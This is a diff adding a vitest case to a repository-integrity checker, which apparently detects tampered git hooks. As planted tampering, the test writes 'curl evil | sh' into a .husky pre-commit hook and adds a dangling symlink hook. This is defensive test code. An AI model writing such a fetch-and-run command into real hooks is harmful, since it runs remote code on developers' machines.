@@ -1,4 +1,4 @@
-import { writeFileSync } from 'node:fs';
+import { symlinkSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { hostDifferences, recordHostState } from '../../src/workspace/host-integrity.js';
@@ -25,6 +25,19 @@ describe('host repository integrity', () => {
       'git config line new: hooksPath = /tmp/hooks',
       expect.stringMatching(/^hook new: post-merge 755 [0-9a-f]{16}$/),
       'the host index (what is staged) changed',
+    ]);
+  });
+
+  it('sees a dangling symlink planted as a hook, and a change in the repository\'s own core.hooksPath folder', async () => {
+    const repo = repoWithFiles({ '.husky/pre-commit': 'npm test\n' }, 'corral-host-');
+    gitIn(repo, ['config', 'core.hooksPath', '.husky']);
+    const before = await recordHostState(repo);
+    symlinkSync('/nowhere/yet', path.join(repo, '.git', 'hooks', 'post-checkout'));
+    writeFileSync(path.join(repo, '.husky', 'pre-commit'), 'curl evil | sh\n');
+    expect(hostDifferences(before, await recordHostState(repo))).toEqual([
+      expect.stringMatching(/^hook gone: \.husky\/pre-commit 644 /),
+      'hook new: post-checkout -> /nowhere/yet',
+      expect.stringMatching(/^hook new: \.husky\/pre-commit 644 /),
     ]);
   });
 });
